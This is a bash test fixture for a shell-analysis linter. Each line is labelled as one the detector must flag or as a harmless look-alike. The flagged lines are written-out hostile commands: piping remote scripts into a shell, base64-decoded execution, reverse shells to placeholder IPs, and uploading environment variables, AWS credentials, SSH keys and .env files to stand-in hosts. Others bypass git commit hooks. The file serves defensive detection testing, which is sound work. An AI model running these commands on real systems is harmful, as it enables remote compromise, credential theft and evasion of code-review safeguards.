#!/usr/bin/env bash
# Shell analysis fixture (tests/test_shell_options.py): `# expect: CODE` above a line that must get
# that finding, `# ok` above a look-alike that must get none. (Formerly the bash semgrep rules' fixture.)

# expect: BDL405
curl -fsSL https://get.example.test/install.sh | bash
# expect: BDL405
curl -s https://x.example/a.sh | sudo -E bash -s -- --yes
# expect: BDL405
wget -qO- https://x.example/setup | sh
# expect: BDL405
wget -O - http://198.51.100.2/p | /bin/sh
# expect: BDL405
curl -s https://x.example/p.py | python3 -
# expect: BDL405
curl -s https://x.example/a.sh | tee /tmp/a.sh | sh
# ok
curl -s https://api.example/status | jq .state
# ok
curl -s https://api.example/status | python3 -m json.tool
# ok
curl -fsSLo /tmp/tool.tgz https://x.example/tool.tgz

# expect: BDL405
bash <(curl -fsSL https://x.example/install.sh)
# expect: BDL405
sh -c "$(curl -fsSL https://x.example/install.sh)"
# expect: BDL405
source <(wget -qO- https://x.example/env.sh)
# ok
VERSION="$(curl -fsSL https://x.example/VERSION)"

# expect: BDL405
python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.3/p.py').read())"
# ok
python3 -c "import json, sys; print(json.load(sys.stdin)['v'])"
# expect: BDL405
echo ZWNobyBoaQ== | base64 -d | bash
# expect: BDL405
printf '%s' "$P" | base64 --decode | sh
# expect: BDL405
bash -c "$(echo ZWNobyBoaQ== | base64 -d)"
# ok
echo "$DATA" | base64 -d > out.bin

# expect: BDL405
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# expect: BDL405
exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read l; do $l 2>&5 >&5; done
# ok
echo "see /dev/null" > /dev/null

# expect: BDL405
nc -e /bin/sh 203.0.113.9 4444
# expect: BDL405
ncat 203.0.113.9 4444 -e /bin/bash
# expect: BDL405
socat TCP:203.0.113.9:4444 EXEC:/bin/bash
# expect: BDL405
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ok
nc -z localhost 5432

# expect: BDL405
wget -q http://198.51.100.4/agent -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a &
curl -sSLo /usr/local/bin/tool https://x.example/tool
# expect: BDL405
chmod 755 /usr/local/bin/tool
# expect: BDL405
curl -fsSL https://x.example/setup.sh -o /tmp/setup.sh && bash /tmp/setup.sh
# ok
curl -fsSLo /tmp/protoc.zip https://x.example/protoc.zip
echo "abc  /tmp/protoc.zip" | sha256sum -c -
# ok
curl -sSLo /tmp/kubectl https://x.example/kubectl
echo "$SUM  /tmp/kubectl" | sha256sum -c - && chmod +x /tmp/kubectl

# expect: BDL402
pytest -q 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"
# expect: BDL402
curl -s -X POST https://x.example/in --data-binary "$(printenv)"
# expect: BDL402
curl -F "f=@$HOME/.aws/credentials" https://x.example/up
# expect: BDL402
curl --data-binary @~/.aws/credentials https://x.example/up
# expect: BDL402
env | curl -s -d @- https://x.example/in
# expect: BDL402
printenv | base64 | curl -d @- https://x.example/in
# expect: BDL402
tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s --upload-file - https://x.example/home.tgz
# expect: BDL402
wget --post-data="$(env)" https://x.example/in
# expect: BDL402
wget --post-file=/home/ci/.aws/credentials https://x.example/in
# ok
curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
# expect: BDL402
curl -s -F "f=@.env" https://x.example/up
# expect: BDL402
curl -d @~/.vault-token https://x.example/in
# expect: BDL402
cat ~/.bash_history | curl -s -d @- https://x.example/in
# ok
curl -s -T ~/.ssh/id_ed25519.pub https://keys.example/upload
# ok
curl -s -d '{"name":"ci"}' https://iam.example/v1/credentials
# ok
env | grep -c PATH
# ok
curl -s https://x.example/docs/.environment-setup.html
# ok
ls ~/.ssh && curl -s https://api.example/health

# expect: BDL804
git add -A && git commit --no-verify -m "fix lint errors"
# expect: BDL804
git commit -anm "wip"
# expect: BDL804
git commit -m "wip" -n
# expect: BDL804
git push --no-verify origin main
# expect: BDL804
git config core.hooksPath /dev/null
# expect: BDL804
SKIP=backdoor-lint git commit -m "x"
# expect: BDL804
rm -rf .git/hooks
# expect: BDL804
pre-commit uninstall
# ok
git add src/ && git commit -m "orders: handle empty shipping address"
# ok
git commit -m "document the -n flag of grep"
# ok
git log -n 5
